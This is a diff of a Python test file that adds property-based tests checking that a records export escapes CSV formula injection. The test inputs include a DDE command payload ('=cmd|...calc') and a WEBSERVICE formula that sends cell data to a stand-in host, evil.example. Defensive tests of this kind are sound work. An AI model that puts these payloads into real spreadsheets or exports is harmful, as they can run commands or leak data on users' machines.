@@ -2,12 +2,16 @@
 
 import csv
 import io
+import re
 
 import pytest
+from hypothesis import given
+from hypothesis import strategies as st
 
 from services.records.domain.faults import RowError
 from services.records.intake.columns import HEADERS, VERSION
 from services.records.intake.export import ANSWER_HEADERS, Answered, header, written
+from services.records.intake.typed import guarded, unguarded
 from tests.support.files import csv_file, read, typed
 from tests.support.paths import SHARED, needs_shared
 
@@ -33,6 +37,37 @@ async def test_the_reader_takes_the_file_again_unchanged() -> None:
 def test_no_cell_runs_as_a_formula() -> None:
     answers = [Answered(raw, "rejected", (), "=cmd|' /C calc'!A0") for raw in HARD]
     assert [cell for line in cells(header() + written(answers)) for cell in line if cell[:1] in tuple("=+-@")] == []
+
+
+# what separates, what hides a sign, signs, and a letter
+piece = st.text(st.sampled_from(",;\t\r\n \u00a0\u3000\"'=+-@＝＋－＠aấ1"), max_size=12)
+SIGNS = tuple("=+-@＝＋－＠")
+
+
+@given(piece)
+def test_the_guard_is_taken_off_exactly(text: str) -> None:
+    assert unguarded(guarded(text)) == text
+
+
+@given(piece, piece)
+def test_no_piece_runs_as_a_formula_however_a_spreadsheet_takes_the_file_apart(name: str, lot: str) -> None:
+    text = written([Answered(typed(source_id=name, full_name=name, lot=lot), "rejected", (), name)]).decode()
+    assert [cell for line in cells(text.encode()) for cell in line if cell.strip(' "\u00a0\u3000').startswith(SIGNS)] == []
+    # with another separator, or none that knows of quotation marks
+    for separator in ",;\t":
+        pieces = re.split(rf"[{separator}\r\n]", text)
+        assert [one for one in pieces if one.strip(' "\u00a0\u3000').startswith(SIGNS)] == []
+
+
+@given(piece, piece)
+async def test_a_file_that_was_guarded_is_read_as_it_was(name: str, lot: str) -> None:
+    raw = typed(full_name=name.strip(), lot=lot.strip())
+    assert [row.raw for row in await read(header() + written([Answered(raw, "rejected", (), name)]))] == [raw]
+
+
+def test_a_formula_behind_another_separator_is_disarmed() -> None:
+    name = "Lê A;http://evil.example/?x=;=WEBSERVICE(B2&A2)"
+    assert cells(written([Answered(typed(full_name=name), "cần sửa")]))[0][1] == "Lê A;http://evil.example/?x=;'=WEBSERVICE(B2&A2)"
 
 
 def test_the_answer_stands_behind_the_row() -> None:
